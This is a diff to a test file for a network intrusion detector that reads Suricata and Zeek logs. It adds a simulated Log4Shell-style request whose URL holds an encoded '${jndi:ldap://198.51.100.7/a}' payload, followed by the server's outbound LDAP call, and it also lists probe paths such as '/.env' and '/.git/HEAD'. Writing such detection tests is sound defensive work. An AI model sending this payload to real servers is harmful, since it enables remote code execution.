@@ -105,6 +105,23 @@ const asked = (paths: string[]): Traffic => {
   )
 }
 
+/** A look-up that a server is told to make, and the call that obeys it. */
+const lookedUp = (): Traffic => {
+  const [at, text] = [MORNING, '/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D']
+  const order = seen({ at, id: 1, targetPort: 80 })
+  const call = seen({ at, id: 2, source: SERVER, target: '198.51.100.7', targetPort: 389 })
+  return {
+    eve: [
+      eve('http', order, { http: { hostname: 'shop.example.jp', url: text, http_method: 'GET', status: 200 } }),
+      eveFlow(call, 'answered'),
+    ],
+    zeek: [
+      zeek('http', order, { host: 'shop.example.jp', uri: text, method: 'GET', status_code: 200 }),
+      zeekFlow(call, 'answered'),
+    ],
+  }
+}
+
 const names = (name: (place: number) => string, count: number): Traffic => {
   const moments = each(count, SECOND, (at, place) => seen({ at, id: place, source: KIOSK, targetPort: 53 }))
   const row = ({ id }: Seen) => ({ rrname: name(id), rrtype: 'TXT' })
@@ -160,7 +177,7 @@ test.each<[string, Traffic, string[]]>([
   ],
   ['one mistyped FTP password', tries([false, true]), ['cleartext-credentials']],
   ['an FTP password that anybody can read', entries('kenta'), ['cleartext-credentials']],
-  ['a program put on another computer as a service', takeover(), ['internal-file-transfer']],
+  ['a program put on another computer as a service', takeover(), ['abnormal-process', 'internal-file-transfer']],
   [
     'the administrator’s name for a share',
     (() => {
@@ -179,6 +196,7 @@ test.each<[string, Traffic, string[]]>([
   ['text records that carry data', names((place) => `${hex(place, 30)}.t.example.net`, 20), ['dns-tunneling']],
   ['text records of mail', names((place) => `_dmarc.kaisha${place}.example.net`, 20), []],
   ['a search for weak spots', asked(['/.env', '/.git/HEAD', '/xmlrpc.php', '/pma/', '/HNAP1/']), ['url-scan']],
+  ['a look-up that a server was told to make', lookedUp(), ['abnormal-process']],
   ['a camera that asks each time', pages((place) => (place % 2 === 0 ? 401 : 200), 200), []],
 ])('%s', (_name, traffic, kinds) => {
   const [suricata, zeeks] = [gist(traffic.eve), gist(traffic.zeek)]
